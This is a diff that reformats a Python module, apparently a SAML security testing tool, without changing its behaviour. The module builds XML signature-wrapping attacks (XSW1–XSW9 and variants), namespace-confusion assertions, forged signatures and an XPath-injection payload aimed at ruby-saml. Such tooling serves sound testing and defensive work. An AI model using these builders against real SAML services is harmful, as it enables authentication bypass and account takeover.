@@ -37,8 +37,12 @@ def _parts(doc: Document) -> tuple[Node, Node, Node | None, Node | None]:
     """Return the Response, its Assertion and their Signatures."""
     response = doc.root
     assertion = response.find((NS.SAML, "Assertion"))
-    return (response, assertion, response.child(NS.DS, "Signature"),
-            assertion.child(NS.DS, "Signature"))
+    return (
+        response,
+        assertion,
+        response.child(NS.DS, "Signature"),
+        assertion.child(NS.DS, "Signature"),
+    )
 
 
 def _required(node: Node | None, what: str) -> Node:
@@ -68,8 +72,10 @@ def xsw1(w: Workshop, attack: Attack) -> Built:
     copy = w.clean_copy(doc, response)
     if attack.form == "schema-valid":
         copy = wrap(copy, DS_OBJECT)
-    edits = [append(_required(signature, "Response signature"), copy),
-             *_evil_outer_response(w, doc)]
+    edits = [
+        append(_required(signature, "Response signature"), copy),
+        *_evil_outer_response(w, doc),
+    ]
     return _built(w, attack, doc.render(edits))
 
 
@@ -80,8 +86,11 @@ def xsw2(w: Workshop, attack: Attack) -> Built:
     response, _, signature, _ = _parts(doc)
     signature = _required(signature, "Response signature")
     copy = w.clean_copy(doc, response)
-    placed = (after(signature, wrap(copy, SAMLP_EXTENSIONS)) if attack.form == "schema-valid"
-              else before(signature, copy))
+    placed = (
+        after(signature, wrap(copy, SAMLP_EXTENSIONS))
+        if attack.form == "schema-valid"
+        else before(signature, copy)
+    )
     return _built(w, attack, doc.render([placed, *_evil_outer_response(w, doc)]))
 
 
@@ -103,10 +112,13 @@ def xsw_first_signature_response(w: Workshop, attack: Attack) -> Built:
     evil_id = new_id()
     digest = signature.find((NS.DS, "SignedInfo"), (NS.DS, "Reference"), (NS.DS, "DigestValue"))
     reference = signature.find((NS.DS, "SignedInfo"), (NS.DS, "Reference"))
-    edits = [id_splice(response, evil_id), *w.evil_splices(doc, assertion),
-             set_text(digest, BOGUS_DIGEST),
-             set_attribute(reference, "URI", b"#" + evil_id.encode()),
-             append(response, doc.bytes_of(response))]
+    edits = [
+        id_splice(response, evil_id),
+        *w.evil_splices(doc, assertion),
+        set_text(digest, BOGUS_DIGEST),
+        set_attribute(reference, "URI", b"#" + evil_id.encode()),
+        append(response, doc.bytes_of(response)),
+    ]
     return _built(w, attack, doc.render(edits))
 
 
@@ -125,8 +137,7 @@ def xsw3(w: Workshop, attack: Attack) -> Built:
     """Insert an unsigned evil assertion before the signed one."""
     doc = w.baseline("assertion")
     _, assertion, _, _ = _parts(doc)
-    return _built(w, attack, doc.render([before(assertion, w.evil_copy(doc, assertion,
-                                                                        new_id()))]))
+    return _built(w, attack, doc.render([before(assertion, w.evil_copy(doc, assertion, new_id()))]))
 
 
 @builder("xsw4", "xsw4-advice")
@@ -144,8 +155,9 @@ def xsw4(w: Workshop, attack: Attack) -> Built:
     return _built(w, attack, doc.render([replace(assertion, evil)]))
 
 
-def _evil_in_place(w: Workshop, doc: Document, assertion: Node,
-                   new_assertion_id: str | None) -> list[Splice]:
+def _evil_in_place(
+    w: Workshop, doc: Document, assertion: Node, new_assertion_id: str | None
+) -> list[Splice]:
     edits = w.evil_splices(doc, assertion)
     if new_assertion_id is not None:
         edits.append(id_splice(assertion, new_assertion_id))
@@ -174,12 +186,15 @@ def xsw6_xsw8(w: Workshop, attack: Attack) -> Built:
     copy = w.clean_copy(doc, assertion)
     xsw8 = attack.id.startswith("xsw8")
     if xsw8:
-        copy = wrap(copy, DS_OBJECT if attack.form == "schema-valid" else (b"<Object>",
-                                                                            b"</Object>"))
+        copy = wrap(
+            copy, DS_OBJECT if attack.form == "schema-valid" else (b"<Object>", b"</Object>")
+        )
     elif attack.form == "schema-valid":
         copy = wrap(copy, DS_OBJECT)
-    edits = [*_evil_in_place(w, doc, assertion, None if xsw8 else new_id()),
-             append(signature, copy)]
+    edits = [
+        *_evil_in_place(w, doc, assertion, None if xsw8 else new_id()),
+        append(signature, copy),
+    ]
     return _built(w, attack, doc.render(edits))
 
 
@@ -201,8 +216,9 @@ def xsw_hidden_in_extensions(w: Workshop, attack: Attack) -> Built:
     """Move the signed assertion into samlp:Extensions; an evil copy takes its place."""
     doc = w.baseline("assertion")
     response, assertion, _, _ = _parts(doc)
-    hidden = after(response.find((NS.SAML, "Issuer")),
-                   wrap(doc.bytes_of(assertion), SAMLP_EXTENSIONS))
+    hidden = after(
+        response.find((NS.SAML, "Issuer")), wrap(doc.bytes_of(assertion), SAMLP_EXTENSIONS)
+    )
     evil = replace(assertion, w.evil_copy(doc, assertion, new_id()))
     return _built(w, attack, doc.render([hidden, evil]))
 
@@ -212,8 +228,9 @@ def xsw_concealed_wrapper(w: Workshop, attack: Attack) -> Built:
     """Keep the Signature in the now-evil assertion; hide a clean copy in <XSW_ATTACK>."""
     doc = w.baseline("assertion")
     _, assertion, _, _ = _parts(doc)
-    hidden = after(assertion, wrap(w.clean_copy(doc, assertion),
-                                   (b"<XSW_ATTACK>", b"</XSW_ATTACK>")))
+    hidden = after(
+        assertion, wrap(w.clean_copy(doc, assertion), (b"<XSW_ATTACK>", b"</XSW_ATTACK>"))
+    )
     return _built(w, attack, doc.render([*_evil_in_place(w, doc, assertion, new_id()), hidden]))
 
 
@@ -225,10 +242,12 @@ def xsw_first_signature_assertion(w: Workshop, attack: Attack) -> Built:
     signature = _required(signature, "Assertion signature")
     evil_id = new_id()
     reference = signature.find((NS.DS, "SignedInfo"), (NS.DS, "Reference"))
-    edits = [*_evil_in_place(w, doc, assertion, evil_id),
-             set_text(reference.find((NS.DS, "DigestValue")), BOGUS_DIGEST),
-             set_attribute(reference, "URI", b"#" + evil_id.encode()),
-             append(assertion, doc.bytes_of(assertion))]
+    edits = [
+        *_evil_in_place(w, doc, assertion, evil_id),
+        set_text(reference.find((NS.DS, "DigestValue")), BOGUS_DIGEST),
+        set_attribute(reference, "URI", b"#" + evil_id.encode()),
+        append(assertion, doc.bytes_of(assertion)),
+    ]
     return _built(w, attack, doc.render(edits))
 
 
@@ -239,7 +258,8 @@ def xsw9(w: Workshop, attack: Attack) -> Built:
     _, assertion, _, signature = _parts(doc)
     signature = _required(signature, "Assertion signature")
     genuine = doc.bytes_of(signature.find((NS.DS, "SignedInfo"))) + doc.bytes_of(
-        signature.find((NS.DS, "SignatureValue")))
+        signature.find((NS.DS, "SignatureValue"))
+    )
     forged = w.issue("assertion", evil=True, key=w.attacker_key)
     _, forged_assertion, _, forged_signature = _parts(forged)
     forged_signed_info = _required(forged_signature, "signature").find((NS.DS, "SignedInfo"))
@@ -272,11 +292,15 @@ def xpath_injection(w: Workshop, attack: Attack) -> Built:
     """Put an XPath-injection payload in Reference/@URI (ruby-saml response_eval)."""
     doc = w.baseline("assertion")
     _, assertion, _, signature = _parts(doc)
-    reference = _required(signature, "Assertion signature").find((NS.DS, "SignedInfo"),
-                                                                 (NS.DS, "Reference"))
+    reference = _required(signature, "Assertion signature").find(
+        (NS.DS, "SignedInfo"), (NS.DS, "Reference")
+    )
     payload = b"#x'] or eval('1') or /[@ID='v"
-    return _built(w, attack, doc.render([set_attribute(reference, "URI", payload),
-                                         *w.evil_splices(doc, assertion)]))
+    return _built(
+        w,
+        attack,
+        doc.render([set_attribute(reference, "URI", payload), *w.evil_splices(doc, assertion)]),
+    )
 
 
 @builder("assertion-prefix-rebound", "assertion-default-namespace")
@@ -289,7 +313,10 @@ def namespace_confusion(w: Workshop, attack: Attack) -> Built:
         extra = [Splice(tag_end, tag_end, b' xmlns:saml="urn:attacker:assertion"')]
     else:
         declaration = f' xmlns="{NS.SAML}"'.encode()
-        extra = [Splice(assertion.start, tag_end, b"<Assertion" + declaration),
-                 Splice(assertion.content_end, assertion.end, b"</Assertion>")]
-    return _built(w, attack, doc.render([before(assertion, w.evil_copy(doc, assertion,
-                                                                        new_id(), extra))]))
+        extra = [
+            Splice(assertion.start, tag_end, b"<Assertion" + declaration),
+            Splice(assertion.content_end, assertion.end, b"</Assertion>"),
+        ]
+    return _built(
+        w, attack, doc.render([before(assertion, w.evil_copy(doc, assertion, new_id(), extra))])
+    )
